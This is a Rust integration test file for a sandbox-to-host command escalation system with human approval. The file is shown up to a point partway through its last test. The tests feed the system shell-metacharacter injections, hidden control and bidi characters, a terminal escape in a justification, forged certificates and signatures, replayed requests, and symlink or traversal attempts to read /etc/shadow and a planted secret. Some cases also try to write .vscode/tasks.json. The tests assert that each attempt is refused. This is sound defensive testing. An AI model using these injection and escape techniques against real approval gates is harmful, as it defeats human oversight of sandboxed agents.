//! Host Escalation end to end: the real client in a real gVisor sandbox,
//! the real Session Coordinator, a real human's keys in a real terminal
//! (tmux), and attacks from inside the sandbox and from the host. Every
//! attack asserts its rejection and that its canary file was never created
//! (the whitelist contains `touch`, so anything that slipped through the
//! checks would create it).

mod common;
#[path = "../escalate/tests/common/corpus.rs"]
mod corpus;

use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use common::sandbox::Domain;
use common::{ESCALATE as ESC, STANDARD_PATH, modal_with, text};
use lazaret::coordinator::protocol::{
    ClientMsg, CoordMsg, PROTOCOL_VERSION, read_frame, write_frame,
};
use lazaret_escalate::protocol::{self, Request, Response, Status};
use lazaret_escalate::rustls::pki_types::{CertificateDer, UnixTime};
use lazaret_escalate::signing::{self, SessionKey};
use lazaret_escalate::trust::{self, SandboxIdentity, TrustAnchor};

fn holder(d: &Domain) -> Child {
    holder_env(d, &[])
}

fn stop(mut c: Child) {
    let _ = nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(c.id() as i32),
        nix::sys::signal::Signal::SIGTERM,
    );
    let _ = c.wait();
}

/// The `decision` of every escalation-decision record, in order.
fn decisions(records: &[serde_json::Value]) -> Vec<&str> {
    records
        .iter()
        .filter(|r| r["kind"] == "escalation-decision")
        .filter_map(|r| r["data"]["decision"].as_str())
        .collect()
}

fn audit_kinds(d: &Domain) -> Vec<serde_json::Value> {
    d.audit_json()
}

#[test]
fn auto_approved_commands_run_on_the_host() {
    let d = Domain::new("gv");
    let ws = d.ws();
    // Output and exit code come back; the command ran in the host folder
    // behind /workspace (direct mode here: the workspace itself).
    let (code, out, err) = d.exec_sh(&format!(
        "cd /workspace && {ESC} --justify 'check the host' -- pwd"
    ));
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.trim(), ws.display().to_string());
    let (code, _, err) = d.exec_sh(&format!(
        "cd /workspace && {ESC} -- ls nonexistent-lazaret-path"
    ));
    assert_eq!(code, 2, "ls's own exit code: {err}");
    assert!(err.contains("No such file or directory"), "{err}");
    // The sandbox learns what the host ran as: a host user, not root.
    let (code, out, err) = d.exec_sh(&format!("{ESC} -- id -un"));
    assert_eq!(code, 0, "{out}{err}");
    let expected = common::test_user().map_or_else(
        || std::env::var("USER").unwrap_or_default(),
        |u| u.name.clone(),
    );
    assert_eq!(out.trim(), expected);
    // Nobody at a terminal: what needs a human is denied, with the reason.
    let canary = d.s.path().join("canary-nohuman");
    let (code, _, err) = d.exec_sh(&format!("{ESC} -- /usr/bin/touch {}", canary.display()));
    assert_eq!(code, 77, "{err}");
    assert!(err.contains("no human is attached"), "{err}");
    assert!(!canary.exists());
    // The guide is there, and its path in the environment.
    let (code, out, _) = d.exec_sh("cat \"$LAZARET_GUIDE\" | head -5");
    assert_eq!(code, 0);
    assert!(out.to_lowercase().contains("lazaret"), "{out}");
    // Every request and decision is in the audit chain.
    let records = audit_kinds(&d);
    let decisions = decisions(&records);
    assert_eq!(
        decisions,
        vec!["auto-approved", "auto-approved", "auto-approved", "denied"]
    );
    let result = records
        .iter()
        .find(|r| r["kind"] == "escalation-result")
        .unwrap();
    assert_eq!(result["data"]["exit_code"], 0);
    assert_eq!(result["data"]["stdout_sha256"].as_str().unwrap().len(), 64);
    let verify = d
        .cmd_raw(STANDARD_PATH, &["audit", d.profile, "--verify"])
        .output()
        .unwrap();
    assert!(verify.status.success());
}

/// Every metacharacter of spec §5.2.1 (and NUL, ESC, bidi, zero-width) on
/// the auto-approve path: with `echo` and `touch` whitelisted, each must
/// still need a human (and, with none attached, be denied).
#[test]
fn metacharacters_never_auto_approve_from_inside_the_sandbox() {
    let d = Domain::new("gv");
    let h = holder(&d);
    let dir = d.s.mkdir("canaries");
    let mut cases: Vec<(String, String)> = Vec::new();
    for (i, sep) in [
        ";", "|", "&", "&&", "||", "$(", "`", ">", "<", "\n", "\r", "\\", ">>", "<<", "(", ")",
        "{", "}", "*", "?", "[", "]", "~", "#", "!",
    ]
    .iter()
    .enumerate()
    {
        let canary = dir.join(format!("meta-{i}"));
        cases.push((
            format!("echo x {sep} touch {}", canary.display()),
            canary.display().to_string(),
        ));
    }
    for (i, ch) in [
        '\u{1b}', '\u{202E}', '\u{200B}', '\u{2066}', '\u{7f}', '\u{85}',
    ]
    .iter()
    .enumerate()
    {
        let canary = dir.join(format!("ctl-{i}"));
        cases.push((
            format!("touch {}{ch}", canary.display()),
            canary.display().to_string(),
        ));
    }
    // argv[0] with a path, and prefix tricks.
    for (i, cmd) in ["/usr/bin/touch", "./touch", "touchx", "id -u"]
        .iter()
        .enumerate()
    {
        let canary = dir.join(format!("prog-{i}"));
        cases.push((
            format!("{cmd} {}", canary.display()),
            canary.display().to_string(),
        ));
    }
    std::fs::write(
        d.s.path().join("cases.json"),
        serde_json::to_vec(&cases).unwrap(),
    )
    .unwrap();
    for (cmd, canary) in &cases {
        // The single-string form sends the command as written.
        let script = format!("{ESC} --justify adversarial {}", common::shell_quote(cmd));
        let (code, _, err) = d.exec_sh(&script);
        assert_eq!(code, 77, "`{}` was not denied: {err}", cmd.escape_debug());
        assert!(!Path::new(canary).exists(), "`{}` ran", cmd.escape_debug());
    }
    // NUL cannot even be sent (argv strings); the client refuses it.
    // cwd outside /workspace: refused before anything is judged.
    let canary = dir.join("cwd");
    let (code, _, err) = d.exec_sh(&format!("cd /tmp && {ESC} -- touch {}", canary.display()));
    assert_eq!(code, 70, "{err}");
    assert!(err.contains("outside"), "{err}");
    assert!(!canary.exists());
    // A prefix entry with extra words inside the workspace still runs.
    d.s.mkdir("ws/sub");
    let (code, _, err) = d.exec_sh(&format!("cd /workspace/sub && {ESC} -- touch ok"));
    assert_eq!(code, 0, "{err}");
    assert!(
        d.ws().join("sub/ok").exists(),
        "the positive control did not run"
    );
    stop(h);
}

/// A real human in a real terminal: `lazaret shell` runs in Lazaret's own
/// pane, and a request opens the approval modal over it: approve, deny with
/// a reason, edit, a shell command approved by hand, and hostile text.
#[test]
fn the_human_approves_denies_and_edits_in_lazaret_shell() {
    let d = Domain::new("gv");
    let t = d.tmux(120, 40, "shell gv", None);
    let s = t.wait_for(60, "the sandbox shell", |s| s.contains("root@"));
    // One pane, no tab bar; the status line names the domain and runtime.
    assert!(s.contains(&format!("gv {} · gVisor", d.hash)), "{s}");

    // Approve.
    t.line(&format!(
        "clear; {ESC} --justify 'who am I on the host' -- whoami; echo EXIT=$?"
    ));
    // It waits, said on the status line, until the human opens it.
    t.wait_for(20, "the waiting request", common::request_waits);
    let s = common::open_request_by_bang(&t, "who am I on the host");
    assert!(s.contains("  whoami"), "{s}");
    assert!(s.contains("no: runs as an argument list"), "{s}");
    // Nothing typed reaches the shell while the modal is open.
    t.send(&["-l", "x"]);
    common::approve_modal(&t, "who am I on the host");
    let s = t.wait_for(20, "the approved result", |s| s.contains("EXIT=0"));
    assert!(!s.contains("xEXIT"), "{s}");

    // Deny with a reason; edit, and the edit runs instead.
    common::deny_then_edit(&t, &d.s.path().join("edited-canary"));

    // Shell syntax runs through the host shell, only after a yes.
    t.line(&format!(
        "clear; {ESC} --justify step-shell 'echo one && echo two'; echo EXIT=$?"
    ));
    let s = common::open_request_by_bang(&t, "step-shell");
    assert!(s.contains("YES: runs through a shell"), "{s}");
    common::approve_modal(&t, "step-shell");
    let s = t.wait_for(20, "the shell result", |s| s.contains("EXIT=0"));
    assert!(s.contains("one") && s.contains("two"), "{s}");

    // Hostile text is shown visibly in the modal, never interpreted.
    t.line(&format!(
        "clear; {ESC} --justify \"$(printf 'ok\\033[2Jhidden')\" -- whoami; echo EXIT=$?"
    ));
    common::open_request_by_bang(&t, "ok␛[2Jhidden");
    t.send(&["d"]);
    t.send(&["Enter"]);
    t.wait_for(20, "the denial", |s| s.contains("EXIT=77"));

    let records = audit_kinds(&d);
    let decisions = decisions(&records);
    assert_eq!(
        decisions,
        vec!["approved", "denied", "edited", "approved", "denied"]
    );
    let edit = records
        .iter()
        .find(|r| r["kind"] == "escalation-decision" && r["data"]["decision"] == "edited")
        .unwrap();
    assert_eq!(edit["data"]["argv"][0], "touch");
    // The shell's exit code is `lazaret shell`'s.
    t.line("exit 7");
    t.wait_exit(30, "lazaret shell");
}

// ---------------------------------------------------------------------------
// From the host: crafted requests against the real coordinator's socket.

struct HostClient {
    socket: PathBuf,
    certs: PathBuf,
    identity: SandboxIdentity,
    session_id: String,
    key: SessionKey,
    rt: tokio::runtime::Runtime,
    _control: tokio::net::UnixStream,
}

impl HostClient {
    /// Registers a session of our own with the domain's coordinator (as a
    /// second terminal would) and loads the sandbox's client material.
    fn new(d: &Domain) -> HostClient {
        HostClient::with(d, false)
    }

    /// [`HostClient::new`], with a human (`interactive`) who gets prompts.
    fn with(d: &Domain, interactive: bool) -> HostClient {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        let control_path = d.control_socket();
        let key = SessionKey::generate().unwrap();
        let session_id = uuid::Uuid::new_v4().to_string();
        let control = rt.block_on(async {
            let mut s = tokio::net::UnixStream::connect(&control_path)
                .await
                .unwrap();
            write_frame(
                &mut s,
                &ClientMsg::Hello {
                    version: PROTOCOL_VERSION,
                    session_id: Some(session_id.clone()),
                    session_key: Some(hex::encode(key.public_key().as_bytes())),
                    pid: std::process::id(),
                    purpose: "test".into(),
                    interactive,
                },
            )
            .await
            .unwrap();
            loop {
                match read_frame::<_, CoordMsg>(&mut s).await.unwrap() {
                    CoordMsg::Welcome { .. } => break s,
                    CoordMsg::Progress { .. } | CoordMsg::SandboxStarted => {}
                    other => panic!("{other:?}"),
                }
            }
        });
        HostClient {
            socket: d
                .s
                .path()
                .join("sockets")
                .join(&d.hash)
                .join("escalate.sock"),
            certs: d.certs_dir(),
            identity: SandboxIdentity::new(d.profile, &d.hash).unwrap(),
            session_id,
            key,
            rt,
            _control: control,
        }
    }

    fn request(&self, command: &str) -> Request {
        let cred = self
            .key
            .delegate(&self.session_id, signing::unix_now() + 600)
            .unwrap();
        let mut req = Request {
            version: protocol::PROTOCOL_VERSION,
            request_id: signing::new_id(),
            session_id: self.session_id.clone(),
            profile: self.identity.profile().to_string(),
            timestamp: signing::unix_now(),
            cwd: "/workspace".into(),
            command: command.into(),
            justification: "host-side test".into(),
            delegation: String::new(),
            signature: String::new(),
        };
        cred.sign(&mut req);
        req
    }

    /// Signs `r` again after a field was changed, with a delegation from
    /// `key` expiring `expires_in` seconds from now.
    fn resign(&self, r: &mut Request, key: &SessionKey, expires_in: i64) {
        r.delegation.clear();
        r.signature.clear();
        let expires = signing::unix_now().saturating_add_signed(expires_in);
        key.delegate(&self.session_id, expires).unwrap().sign(r);
    }

    fn config(&self) -> Arc<lazaret_escalate::rustls::ClientConfig> {
        trust::load_client_config(&self.certs).unwrap()
    }

    /// Sends raw frame bytes over mTLS with `config`; the response, or None
    /// when the connection was dropped.
    fn send_raw(
        &self,
        config: Arc<lazaret_escalate::rustls::ClientConfig>,
        body: &[u8],
        declared_len: Option<u32>,
    ) -> Option<Response> {
        self.rt.block_on(async {
            use tokio::io::AsyncWriteExt;
            let stream = tokio::net::UnixStream::connect(&self.socket).await.ok()?;
            let connector = lazaret_escalate::tokio_rustls::TlsConnector::from(config);
            let mut tls = connector.connect(trust::server_name(), stream).await.ok()?;
            let len = declared_len.unwrap_or(body.len() as u32);
            tls.write_all(&len.to_be_bytes()).await.ok()?;
            tls.write_all(body).await.ok()?;
            tls.flush().await.ok()?;
            if declared_len.is_some() {
                // Truncated: close our side after the partial body.
                let _ = tls.shutdown().await;
            }
            tokio::time::timeout(
                Duration::from_secs(15),
                protocol::read_response_async(&mut tls),
            )
            .await
            .ok()?
            .ok()
        })
    }

    fn send(&self, req: &Request) -> Option<Response> {
        self.send_raw(self.config(), &serde_json::to_vec(req).unwrap(), None)
    }

    /// Sends `req` with `config`; the response and the certificate the
    /// socket presented for it.
    fn send_seeing_server(
        &self,
        config: Arc<lazaret_escalate::rustls::ClientConfig>,
        req: &Request,
    ) -> Option<(Response, CertificateDer<'static>)> {
        self.rt.block_on(async {
            use tokio::io::AsyncWriteExt;
            let body = serde_json::to_vec(req).unwrap();
            let stream = tokio::net::UnixStream::connect(&self.socket).await.ok()?;
            let connector = lazaret_escalate::tokio_rustls::TlsConnector::from(config);
            let mut tls = connector.connect(trust::server_name(), stream).await.ok()?;
            let server = tls.get_ref().1.peer_certificates()?.first()?.clone();
            tls.write_all(&(body.len() as u32).to_be_bytes())
                .await
                .ok()?;
            tls.write_all(&body).await.ok()?;
            tls.flush().await.ok()?;
            let response = tokio::time::timeout(
                Duration::from_secs(15),
                protocol::read_response_async(&mut tls),
            )
            .await
            .ok()?
            .ok()?;
            Some((response, server))
        })
    }
}

/// The last second `cert` (issued by `ca`) is valid in, as rustls's own
/// verifier reads its notAfter (the server's side of the Escalation Socket
/// uses the same): checked at a time long after any certificate here
/// ends, the refusal names it. A certificate is refused from the next
/// second on.
fn not_after(cert: &CertificateDer<'_>, ca: &CertificateDer<'_>, server: bool) -> u64 {
    use lazaret_escalate::rustls::client::danger::ServerCertVerifier;
    use lazaret_escalate::rustls::{self, CertificateError, RootCertStore};
    let mut roots = RootCertStore::empty();
    roots.add(ca.clone().into_owned()).unwrap();
    let roots = Arc::new(roots);
    let later = UnixTime::since_unix_epoch(Duration::from_secs(u64::from(u32::MAX)));
    let refused = if server {
        rustls::client::WebPkiServerVerifier::builder_with_provider(roots, trust::crypto_provider())
            .build()
            .unwrap()
            .verify_server_cert(cert, &[], &trust::server_name(), &[], later)
            .err()
    } else {
        rustls::server::WebPkiClientVerifier::builder_with_provider(roots, trust::crypto_provider())
            .build()
            .unwrap()
            .verify_client_cert(cert, &[], later)
            .err()
    };
    match refused {
        Some(rustls::Error::InvalidCertificate(CertificateError::ExpiredContext {
            not_after,
            ..
        })) => not_after.as_secs(),
        other => panic!("expected the certificate to have expired by then: {other:?}"),
    }
}

fn refused(r: Option<Response>) -> bool {
    r.is_none_or(|r| r.status == Status::Error)
}

#[test]
fn crafted_requests_from_the_host_are_refused() {
    let d = Domain::new("gv");
    let h = holder(&d);
    let c = HostClient::new(&d);
    // Inside the workspace (requests run in /workspace): auto-approved
    // commands cannot write anywhere else.
    let dir = d.s.mkdir("ws/host-canaries");
    let canary = |name: &str| dir.join(name);
    let touch = |name: &str| format!("touch host-canaries/{name}");

    // Positive control: a correct request from a registered session runs.
    let r = c.send(&c.request(&touch("ok"))).expect("an answer");
    assert_eq!(r.status, Status::Approved, "{r:?}");
    assert!(canary("ok").exists());

    let mut cases: Vec<(&str, Option<Response>)> = Vec::new();
    // Transport and identity.
    let no_cert =
        lazaret_escalate::rustls::ClientConfig::builder_with_provider(trust::crypto_provider())
            .with_protocol_versions(&[&lazaret_escalate::rustls::version::TLS13])
            .unwrap()
            .with_root_certificates({
                let mut roots = lazaret_escalate::rustls::RootCertStore::empty();
                let pem = std::fs::read_to_string(c.certs.join(trust::CA_CERT_FILE)).unwrap();
                for cert in lazaret_escalate::rustls::pki_types::pem::PemObject::pem_slice_iter(
                    pem.as_bytes(),
                ) {
                    roots.add(cert.unwrap()).unwrap();
                }
                roots
            })
            .with_no_client_auth();
    let mut no_cert = no_cert;
    no_cert.alpn_protocols = vec![trust::ALPN.to_vec()];
    cases.push((
        "no client certificate",
        c.send_raw(
            Arc::new(no_cert),
            &serde_json::to_vec(&c.request(&touch("t1"))).unwrap(),
            None,
        ),
    ));
    let other_ca = TrustAnchor::generate(Duration::from_secs(600)).unwrap();
    let other_dir = d.s.mkdir("other-ca");
    other_ca
        .issue_client(&c.identity, Duration::from_secs(600))
        .unwrap()
        .write_to(&other_dir)
        .unwrap();
    // Trust the real server, present a cert of another CA with the right SAN.
    let forged = trust::client_config(
        &lazaret_escalate::rustls::pki_types::pem::PemObject::from_pem_file(
            c.certs.join(trust::CA_CERT_FILE),
        )
        .unwrap(),
        vec![
            lazaret_escalate::rustls::pki_types::pem::PemObject::from_pem_file(
                other_dir.join(trust::CLIENT_CERT_FILE),
            )
            .unwrap(),
        ],
        lazaret_escalate::rustls::pki_types::pem::PemObject::from_pem_file(
            other_dir.join(trust::CLIENT_KEY_FILE),
        )
        .unwrap(),
    );
    cases.push((
        "certificate from another CA",
        c.send_raw(
            forged.unwrap(),
            &serde_json::to_vec(&c.request(&touch("t2"))).unwrap(),
            None,
        ),
    ));
    // Signatures and sessions.
    let mut r = c.request(&touch("t3"));
    r.signature = "00".repeat(64);
    cases.push(("bad signature", c.send(&r)));
    let mut r = c.request(&touch("t4"));
    r.signature.clear();
    cases.push(("missing signature", c.send(&r)));
    let mut r = c.request(&touch("t5"));
    r.command = touch("t5b");
    cases.push(("signature over different bytes", c.send(&r)));
    let mut r = c.request(&touch("t6"));
    r.session_id = uuid::Uuid::new_v4().to_string();
    cases.push(("unknown session", c.send(&r)));
    let stranger = SessionKey::generate().unwrap();
    let mut r = c.request(&touch("t7"));
    c.resign(&mut r, &stranger, 600);
    cases.push(("delegation by an unregistered key", c.send(&r)));
    let mut r = c.request(&touch("t8"));
    r.timestamp -= 3600;
    c.resign(&mut r, &c.key, 600);
    cases.push(("stale timestamp", c.send(&r)));
    let mut r = c.request(&touch("t9"));
    r.timestamp += 3600;
    c.resign(&mut r, &c.key, 600);
    cases.push(("future timestamp", c.send(&r)));
    let mut r = c.request(&touch("t10"));
    c.resign(&mut r, &c.key, -10);
    cases.push(("expired delegation", c.send(&r)));
    let mut r = c.request(&touch("t11"));
    r.profile = "otherprofile".into();
    c.resign(&mut r, &c.key, 600);
    cases.push(("another profile", c.send(&r)));
    for (name, cwd) in [
        ("cwd outside /workspace", "/etc"),
        ("cwd climbing out", "/workspace/../etc"),
    ] {
        let mut r = c.request(&touch("t12"));
        r.cwd = cwd.into();
        c.resign(&mut r, &c.key, 600);
        cases.push((name, c.send(&r)));
    }
    // Replay: the positive control's exact request again.
    let replayed = c.request(&touch("t13"));
    let first = c.send(&replayed).unwrap();
    assert_eq!(first.status, Status::Approved);
    std::fs::remove_file(canary("t13")).unwrap();
    cases.push(("replayed request id", c.send(&replayed)));
    // Malformed bodies.
    let good = serde_json::to_vec(&c.request(&touch("t14"))).unwrap();
    cases.push((
        "truncated frame",
        c.send_raw(c.config(), &good[..good.len() / 2], Some(good.len() as u32)),
    ));
    cases.push((
        "oversized frame",
        c.send_raw(c.config(), b"{}", Some(64 << 20)),
    ));
    let mut bad = good.clone();
    bad.insert(20, 0xff);
    cases.push(("invalid UTF-8", c.send_raw(c.config(), &bad, None)));
    let text = String::from_utf8(good).unwrap();
    let dup = text.replacen("{", &format!("{{\"command\":\"{}\",", touch("t15")), 1);
    cases.push((
        "duplicate JSON keys",
        c.send_raw(c.config(), dup.as_bytes(), None),
    ));
    let unknown = text.replacen("{", "{\"admin\":true,", 1);
    cases.push((
        "unknown field",
        c.send_raw(c.config(), unknown.as_bytes(), None),
    ));
    cases.push(("not JSON", c.send_raw(c.config(), b"touch /tmp/x", None)));

    let mut failures = Vec::new();
    for (name, answer) in &cases {
        if !refused(answer.clone()) {
            failures.push(format!("{name}: {answer:?}"));
        }
    }
    assert!(failures.is_empty(), "accepted:\n{}", failures.join("\n"));
    let ran: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n != "ok")
        .collect();
    assert!(ran.is_empty(), "canaries created: {ran:?}");
    eprintln!("{} crafted host-side requests refused", cases.len());
    stop(h);
}

/// Sends `req` over mTLS from its own thread; with `hang_up`, the requester
/// closes its connection that long after sending, without waiting.
fn send_in_thread(
    c: &HostClient,
    req: &Request,
    hang_up: Option<Duration>,
) -> std::thread::JoinHandle<Option<Response>> {
    let (socket, config, body) = (
        c.socket.clone(),
        c.config(),
        serde_json::to_vec(req).unwrap(),
    );
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        rt.block_on(async {
            use tokio::io::AsyncWriteExt;
            let stream = tokio::net::UnixStream::connect(&socket).await.ok()?;
            let connector = lazaret_escalate::tokio_rustls::TlsConnector::from(config);
            let mut tls = connector.connect(trust::server_name(), stream).await.ok()?;
            tls.write_all(&(body.len() as u32).to_be_bytes())
                .await
                .ok()?;
            tls.write_all(&body).await.ok()?;
            tls.flush().await.ok()?;
            let wait = hang_up.unwrap_or(Duration::from_secs(60));
            tokio::time::timeout(wait, protocol::read_response_async(&mut tls))
                .await
                .ok()?
                .ok()
        })
    })
}

/// The first message on `c`'s control connection that `pick` takes,
/// within 20 seconds.
fn next_message<T>(c: &mut HostClient, what: &str, pick: impl Fn(CoordMsg) -> Option<T>) -> T {
    c.rt.block_on(async {
        loop {
            let msg = tokio::time::timeout(Duration::from_secs(20), read_frame(&mut c._control))
                .await
                .unwrap_or_else(|_| panic!("no {what} within 20 s"))
                .unwrap();
            if let Some(v) = pick(msg) {
                return v;
            }
        }
    })
}

/// The next `Prompt` on `c`'s control connection.
fn next_prompt(c: &mut HostClient) -> lazaret::coordinator::escalation::Prompt {
    next_message(c, "prompt", |m| match m {
        CoordMsg::Prompt { prompt } => Some(prompt),
        _ => None,
    })
}

/// Sends an approval of `request_id` on `c`'s control connection, then a
/// `Status`, and waits for the Status reply. The coordinator reads a
/// connection's frames one at a time and answers each before it reads the
/// next (`serve_session`), so the reply means the decision was handled:
/// taken for its request, or logged as ignored.
fn approve_then_status(c: &mut HostClient, request_id: &str) {
    c.rt.block_on(async {
        for msg in [
            ClientMsg::Decision {
                request_id: request_id.to_string(),
                verdict: lazaret::coordinator::escalation::Verdict::Approve,
            },
            ClientMsg::Status,
        ] {
            write_frame(&mut c._control, &msg).await.unwrap();
        }
    });
    next_message(c, "the status reply", |m| match m {
        CoordMsg::Status { .. } => Some(()),
        _ => None,
    });
}

/// The coordinator's log, the rotated file first.
fn coordinator_log(d: &Domain) -> String {
    let log = d.domain_root().join("coordinator.log");
    let mut text =
        std::fs::read_to_string(lazaret::coordinator::log::rotated(&log)).unwrap_or_default();
    text.push_str(&std::fs::read_to_string(&log).unwrap_or_default());
    text
}

/// Asserts that a handled decision for `request_id` reached no request:
/// the coordinator logs that line instead of passing the verdict on.
fn assert_decision_ignored(d: &Domain, request_id: &str) {
    let log = coordinator_log(d);
    assert!(
        log.contains(&format!(
            "a decision for request {request_id}, which is not pending for it, ignored"
        )),
        "the decision for {request_id} was not ignored; coordinator log:\n{log}"
    );
}

/// The domain's decisions once there are at least `n` (a decision's record
/// may be written just after the requester or the human heard of it).
fn decisions_at_least(d: &Domain, n: usize) -> Vec<String> {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let found: Vec<String> = decisions(&audit_kinds(d))
            .into_iter()
            .map(String::from)
            .collect();
        if found.len() >= n || Instant::now() > deadline {
            return found;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Prompts belong to their session (decisions.md D10): a decision from
/// another session's connection is ignored; a session that leaves gets its
/// prompts denied (the requester hears it, the audit has it); a requester
/// that hangs up withdraws its prompt, and approving it then runs nothing.
#[test]
fn prompts_belong_to_the_session_they_were_sent_to() {
    let d = Domain::new("rc");
    let h = holder(&d);
    let dir = d.s.mkdir("lifecycle-canaries");
    let mut asked = HostClient::with(&d, true);
    let mut other = HostClient::with(&d, true);

    let req = asked.request(&format!("mkdir {}", dir.join("one").display()));
    let requester = send_in_thread(&asked, &req, None);
    let prompt = next_prompt(&mut asked);
    assert_eq!(prompt.request_id, req.request_id);
    // Another session's connection answers it: ignored. Once the reply to
    // the Status sent after it is back, the decision was handled, and the
    // log says it went to no request.
    approve_then_status(&mut other, &req.request_id);
    assert_decision_ignored(&d, &req.request_id);
    assert!(!requester.is_finished() && !dir.join("one").exists());
    // The session it was sent to leaves: the requester is denied (which it
    // could not be had the other session's approval been taken).
    drop(asked);
    let r = requester.join().unwrap().expect("an answer");
    assert_eq!(r.status, Status::Denied, "{r:?}");
    assert!(
        r.denied_reason
            .as_deref()
            .is_some_and(|w| w.contains("session left")),
        "{r:?}"
    );
    assert!(!dir.join("one").exists(), "a denied request ran");

    // The requester hangs up while its prompt is up: withdrawn.
    let req = other.request(&format!("mkdir {}", dir.join("two").display()));
    let requester = send_in_thread(&other, &req, Some(Duration::from_millis(500)));
    let prompt = next_prompt(&mut other);
    assert_eq!(prompt.request_id, req.request_id);
    assert!(requester.join().unwrap().is_none());
    let withdrawn = next_message(&mut other, "withdrawal", |m| match m {
        CoordMsg::Withdrawn { request_id, .. } => Some(request_id),
        _ => None,
    });
    assert_eq!(withdrawn, req.request_id);
    // Approving it now is handled (the Status reply) and goes to no request.
    approve_then_status(&mut other, &req.request_id);
    assert_decision_ignored(&d, &req.request_id);
    assert!(
        std::fs::read_dir(&dir).unwrap().next().is_none(),
        "a canary was created"
    );
    assert_eq!(decisions_at_least(&d, 2), vec!["denied", "withdrawn"]);
    drop(other);
    stop(h);
}

// ---------------------------------------------------------------------------
// decisions.md D9: what auto-approve can no longer be turned into.

/// Replaces the domain's `auto_approve` line (before it starts).
fn set_auto_approve(d: &Domain, entries: &[String]) {
    let config = d.s.path().join("config.toml");
    let text = std::fs::read_to_string(&config).unwrap();
    let start = text.find("auto_approve = [").unwrap();
    let end = start + text[start..].find('\n').unwrap();
    let list: Vec<String> = entries.iter().map(|e| format!("{e:?}")).collect();
    let text = format!(
        "{}auto_approve = [{}]{}",
        &text[..start],
        list.join(", "),
        &text[end..]
    );
    d.s.write("config.toml", &text);
}

/// Adds `line` to the domain's `[escalation]` table (before it starts).
fn add_to_escalation(d: &Domain, line: &str) {
    let config = d.s.path().join("config.toml");
    let text = std::fs::read_to_string(&config).unwrap();
    let text = text.replacen("[escalation]\n", &format!("[escalation]\n{line}\n"), 1);
    d.s.write("config.toml", &text);
}

/// With file-reading and file-writing programs allowed by the
/// configuration, every exfiltration or write outside the workspace that
/// an agent tries from inside a gVisor sandbox either goes to a human
/// (none is attached here, so it is denied) or fails under Landlock; the
/// canary secret never reaches the agent. Writes inside the workspace work.
#[test]
fn auto_approved_commands_cannot_reach_outside_the_workspace() {
    const SECRET: &str = "CANARY-SECRET-d9";
    let d = Domain::new("gv");
    let secret = d.s.write("secret", SECRET);
    // The user's home, outside the workspace.
    let home_secret = common::user_home().join(format!(".lazaret-canary-{}", d.hash));
    std::fs::write(&home_secret, SECRET).unwrap();
    d.s.chown(&home_secret);
    struct Remove(PathBuf);
    impl Drop for Remove {
        fn drop(&mut self) {
            let _ = std::fs::remove_file(&self.0);
        }
    }
    let _cleanup = Remove(home_secret.clone());
    d.s.mkdir("ws/sub");
    d.s.mkdir("ws/.vscode");
    let outside = d.s.path().join("written-outside");
    set_auto_approve(
        &d,
        &[
            "date *".into(),
            "cat *".into(),
            "head *".into(),
            "tee *".into(),
            "touch *".into(),
            "ls *".into(),
            // Exact entries the user wrote are trusted words, yet still
            // confined when they run.
            format!("cat {}", secret.display()),
            format!("cat {}", home_secret.display()),
            format!("touch {}", outside.display()),
            "touch sub/inside".into(),
            "ls -a /tmp".into(),
        ],
    );
    let h = holder(&d);
    let run = |script: &str| d.exec_sh(&format!("cd /workspace && {script}"));
    // Symlinks the agent plants in the workspace, pointing out (they
    // resolve on the host, next to the workspace).
    let (code, _, err) = run("ln -s ../secret link && ln -s .. up && ln -s / root");
    assert_eq!(code, 0, "{err}");

    let s = secret.display();
    let to_human = [
        format!("date -f {s}"),
        "date -f ../secret".into(),
        format!("date --file={s}"),
        format!("date -f{s}"),
        "date --file=../secret".into(),
        "date -f link".into(),
        "date -flink".into(),
        "cat link".into(),
        "cat up/secret".into(),
        "cat root/etc/shadow".into(),
        "head -c 100 link".into(),
        "cat sub/../../secret".into(),
        format!("cat file://{s}"),
        format!("tee {}", outside.display()),
        "tee ../written-outside".into(),
        "tee up/written-outside".into(),
        "ls -la ..".into(),
        "ls -la /".into(),
    ];
    let confined: Vec<String> = vec![
        format!("cat {s}"),
        format!("cat {}", home_secret.display()),
        format!("touch {}", outside.display()),
        "ls -a /tmp".into(),
        "touch .vscode/tasks.json".into(),
        "tee .vscode/settings.json".into(),
    ];
    // Few execs (each `lazaret exec` costs a second or so), each a new
    // session within the rate limit's burst.
    let all: Vec<&String> = to_human.iter().chain(&confined).collect();
    let burst = lazaret::coordinator::escalation::RequestLimits::default().burst as usize;
    let mut out = String::new();
    for (n, chunk) in all.chunks(burst).enumerate() {
        let script: String = chunk
            .iter()
            .enumerate()
            .map(|(i, cmd)| format!("{ESC} -- {cmd} 2>&1; echo \"@@@ {} $?\"; ", n * burst + i))
            .collect();
        let (_, o, err) = run(&script);
        assert!(!err.contains(SECRET), "{err}");
        out.push_str(&o);
    }
    let err = "";
    assert!(!out.contains(SECRET) && !err.contains(SECRET), "{out}{err}");
    let mut rest = out.as_str();
    for (i, cmd) in all.iter().enumerate() {
        let marker = format!("@@@ {i} ");
        let at = rest
            .find(&marker)
            .unwrap_or_else(|| panic!("`{cmd}`: {out}"));
        let said = &rest[..at];
        let code: i32 = rest[at + marker.len()..]
            .split_whitespace()
            .next()
            .unwrap()
            .parse()
            .unwrap();
        rest = &rest[at + marker.len()..];
        if i < to_human.len() {
            assert_eq!(code, 77, "`{cmd}` did not go to a human: {said}");
            assert!(
                said.contains("outside the workspace"),
                "`{cmd}`: the reason is not shown: {said}"
            );
        } else {
            // Auto-approved, and stopped by the confinement: Landlock, or
            // the read-only binds of the command's own mount namespace.
            assert_ne!(code, 0, "`{cmd}` succeeded: {said}");
            assert!(
                said.contains("Permission denied") || said.contains("Read-only file system"),
                "`{cmd}` did not fail under the confinement: {said}"
            );
        }
    }
    assert!(!outside.exists(), "a write outside the workspace landed");
    assert!(!d.ws().join(".vscode/tasks.json").exists());
